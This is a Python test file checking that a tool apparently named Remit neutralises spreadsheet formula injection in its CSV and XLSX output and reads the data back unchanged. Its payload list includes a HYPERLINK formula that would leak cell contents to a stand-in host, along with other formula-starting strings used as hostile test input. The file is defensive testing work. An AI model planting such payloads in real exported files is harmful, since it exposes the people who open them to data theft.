"""Nothing that Remit writes starts a formula from a text of the user, and its tables lose nothing by it."""

import csv
import re
import zipfile
from pathlib import Path

import polars as pl
from hypothesis import given
from hypothesis import strategies as st

from remit.bodies import read_bodies
from remit.bodies.defuse import defused, undone
from remit.bodies.importing import write_tables
from tests.cli.calls import Remit
from tests.plans import tiny_tables, write_tiny_plan

STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")
BAD = ('=HYPERLINK("http://example.org?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "'=1+1", "\uff1d1+1")


def starts_formula(cell: str) -> bool:
    return cell.startswith(STARTS) and not NUMBER.fullmatch(cell)


def cells_of(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


@given(st.lists(st.none() | st.text(alphabet="'=+-@\t\r\n\uff1da 1", max_size=5)))
def test_any_text_is_made_harmless_and_whole_again(texts: list[str | None]) -> None:
    frame = pl.DataFrame({"a": texts}, schema={"a": pl.String})
    made = defused(frame)
    assert not any(text.startswith((*STARTS, "\n")) for text in made["a"].drop_nulls())
    assert undone(made).equals(frame)


def test_numbers_stay_numbers() -> None:
    frame = pl.DataFrame({"a": [-1.5, 2.0], "b": ["x", "-y"]})
    assert defused(frame).write_csv() == "a,b\n-1.5,x\n2.0,'-y\n"


def hostile_plan(folder: Path) -> Path:
    """The tiny plan with formulas wherever a user can write a text."""
    tables = tiny_tables()
    for n, rows in enumerate(tables.values()):
        for m, row in enumerate(rows):
            for name in {"source", "name", "covers", "meaning"} & set(row):
                row[name] = BAD[(n + m) % len(BAD)]
    for name in ("mars",):
        tables["schemes"][0]["scheme"] = f"={name}"
    for row in tables["checkpoints"]:
        row["name"] = "checkpoint 2"
    for table, column in (("people", "function"), ("posts", "function"), ("agreements", "function")):
        for row in tables[table]:
            row[column] = {"finance": "@finance"}.get(row[column], row[column])
    functions = {"planning": "-planning", "@finance": "=finance", "corporate": "+corporate"}
    tables["functions"] = [
        {"function": slug, "name": name, "commissioning": "true", "meaning": "=1"}
        for slug, name in functions.items()
    ]
    write_tiny_plan(folder, tables=tables)
    text = (folder / "plan.toml").read_text(encoding="utf-8")
    (folder / "plan.toml").write_text(
        text.replace('target = "mars"', 'target = "=mars"').replace('"finance"', '"@finance"'),
        encoding="utf-8",
    )
    return folder


def test_tables_are_written_harmless_and_read_back_as_they_were(tmp_path: Path) -> None:
    plan = read_bodies(hostile_plan(tmp_path / "plan"))
    assert plan.bodies["name"][0] == BAD[0]
    written = write_tables(plan.tables(), tmp_path / "again")
    assert [cell for path in written for cell in cells_of(path) if starts_formula(cell)] == []
    for name, frame in read_bodies(tmp_path / "again").tables().items():
        assert frame.equals(plan.tables()[name]), name


def test_no_file_that_a_verb_writes_starts_a_formula(remit: Remit, tmp_path: Path) -> None:
    plan, out = hostile_plan(tmp_path / "plan"), tmp_path / "out"
    book = tmp_path / "book.xlsx"
    wrong = hostile_plan(tmp_path / "wrong")
    text = (wrong / "people.csv").read_text(encoding="utf-8")
    (wrong / "people.csv").write_text(text.replace(",corporate,", ",=1+2,", 1), encoding="utf-8")
    calls: list[tuple[int, tuple[object, ...]]] = [
        (0, ("check", plan)),
        (0, ("new", "--workbook", book, "--from", plan)),
        (0, ("import", book, "--plan", out / "imported")),
        (0, ("exits", plan, "--on", "2012-03-31", "--as-if", "2012-04-30", "--out", out / "exits")),
        (0, ("exits", plan, "--on", "2012-03-31", "--as-if", "2012-04-30", "--exact", "--out", out / "own")),
        (2, ("check", wrong, "--marked", out / "marked.xlsx")),
        (0, ("exits", wrong, "--on", "2012-03-31", "--exact", "--out", out / "wrong")),
        (0, ("import", wrong / "bodies.csv", "--plan", out / "proposed")),
    ]
    for code, arguments in calls:
        said = remit(*arguments)
        assert said.code == code, (arguments, said.err)
    tables = list(out.rglob("*.csv"))
    assert len(tables) > 20
    assert {path: cell for path in tables for cell in cells_of(path) if starts_formula(cell)} == {}
    assert any("'@finance" in cells_of(path) for path in tables)
    for path in (book, out / "marked.xlsx"):
        with zipfile.ZipFile(path) as archive:
            sheets = [archive.read(name) for name in archive.namelist() if "/worksheets/" in name]
        assert [sheet for sheet in sheets if b"<f>" in sheet or b"<hyperlink" in sheet] == []
        assert any(b"=HYPERLINK" in sheet for sheet in sheets) == (path == book)
    assert read_bodies(out / "imported").digest() == read_bodies(plan).digest()
